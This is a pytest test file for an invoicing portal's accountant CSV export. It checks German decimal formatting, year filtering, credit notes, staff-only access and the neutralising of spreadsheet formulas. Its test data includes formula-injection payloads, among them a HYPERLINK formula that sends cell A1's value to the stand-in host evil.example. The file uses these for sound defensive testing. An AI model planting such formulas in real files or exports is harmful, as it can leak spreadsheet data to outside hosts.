"""The accountant's CSV: one row per invoice and per payment, German decimals, and no cell that a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from harzportal.core import clock, spreadsheet
from harzportal.core.errors import PermissionDenied
from harzportal.core.roles import Role
from harzportal.invoices import collection, export, issuing
from tests.invoices.helpers import invoice_row, issue_manual, line, member, run

pytestmark = pytest.mark.service

HEADER = ["Art", "Nummer", "Storniert", "Kundennummer", "Empfänger", "Datum", "Fällig", "Netto",
          "USt", "Brutto", "Bezahlt", "Status", "Referenz"]
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1;"Rechnung")'


def exported(actor, year=None) -> list[list[str]]:
    text = run(export.invoices_csv, actor, year)
    assert "\r\n" in text  # rows end as spreadsheets expect
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  HYPERLINK])
def test_a_cell_that_looks_like_a_formula_gets_a_leading_apostrophe(cell):
    assert spreadsheet.inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Harzer Chemiewerke GmbH", "1428,00", "", "CNH-2027-0001",
                                  "Rechnung = Beitrag"])
def test_other_cells_are_exported_as_they_are(cell):
    assert spreadsheet.inert(cell) == cell


def test_invoices_and_payments_are_exported_inert_and_in_german_decimals(factories,
                                                                         staff_actor):
    organization = member(factories, name=HYPERLINK)
    invoice = issue_manual(staff_actor, organization,
                           [line("=SUMME(A1:A9)", 1000, 123456789, 1900)])  # 1.234.567,89 €
    references = ["=1+1", "+1", "-1", "@SUM(A1)", "Überweisung Januar"]
    for reference in references:
        run(collection.record_payment, staff_actor, invoice.id, date(2027, 1, 15), 10000,
            reference)

    rows = exported(staff_actor)

    # 19 % of 1.234.567,89 € = 234.567,8991 € -> 234.567,90 €
    assert rows == [
        HEADER,
        ["invoice", invoice.number, "", str(organization.id), "'" + HYPERLINK, "2027-01-15",
         "2027-02-14", "1234567,89", "234567,90", "1469135,79", "500,00", "issued", ""],
        *[["payment", invoice.number, "", str(organization.id), "'" + HYPERLINK, "2027-01-15",
           "", "", "", "100,00", "", "", expected]
          for expected in ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "Überweisung Januar"]],
    ]


def test_a_credit_note_names_the_invoice_it_cancels(factories, staff_actor):
    organization = member(factories)
    invoice = issue_manual(staff_actor, organization)
    credit_note = run(issuing.cancel_invoice, staff_actor, invoice.id)

    rows = exported(staff_actor, 2027)

    assert [(row[0], row[1], row[2], row[9], row[11]) for row in rows[1:]] == [
        ("invoice", invoice.number, "", "1428,00", "cancelled"),
        ("credit_note", credit_note.number, invoice.number, "1428,00", "issued")]


def test_the_export_of_a_year_holds_that_year_s_invoices_and_their_payments(factories,
                                                                            staff_actor):
    organization = member(factories)
    old = invoice_row(organization, "CNH-2026-0007", issue_date=date(2026, 12, 1))
    new = invoice_row(organization, "CNH-2027-0001", issue_date=date(2027, 1, 15))
    # Paid in 2027, but for the invoice of 2026: it belongs to 2026's export.
    run(collection.record_payment, staff_actor, old.id, date(2027, 1, 10), 142800, "Alt")

    assert [(row[0], row[1]) for row in exported(staff_actor, 2026)[1:]] == [
        ("invoice", old.number), ("payment", old.number)]
    assert [(row[0], row[1]) for row in exported(staff_actor, 2027)[1:]] == [
        ("invoice", new.number)]
    assert len(exported(staff_actor)) == 1 + 3


def test_a_credit_note_names_an_invoice_of_the_previous_year(factories, staff_actor):
    organization = member(factories)
    with clock.fixed_at(datetime(2026, 12, 10, 9, 0, tzinfo=UTC)):
        invoice = issue_manual(staff_actor, organization)
    credit_note = run(issuing.cancel_invoice, staff_actor, invoice.id)  # 15 January 2027

    rows = exported(staff_actor, 2027)

    assert [(row[0], row[1], row[2]) for row in rows[1:]] == [
        ("credit_note", credit_note.number, invoice.number)]


def test_only_staff_export(factories):
    organization = member(factories)
    invoice_row(organization, "CNH-2027-0001")
    for role in (Role.ORG_MANAGER, Role.CONTACT):
        with pytest.raises(PermissionDenied):
            run(export.invoices_csv, factories.actor(factories.user(organization, role=role)))
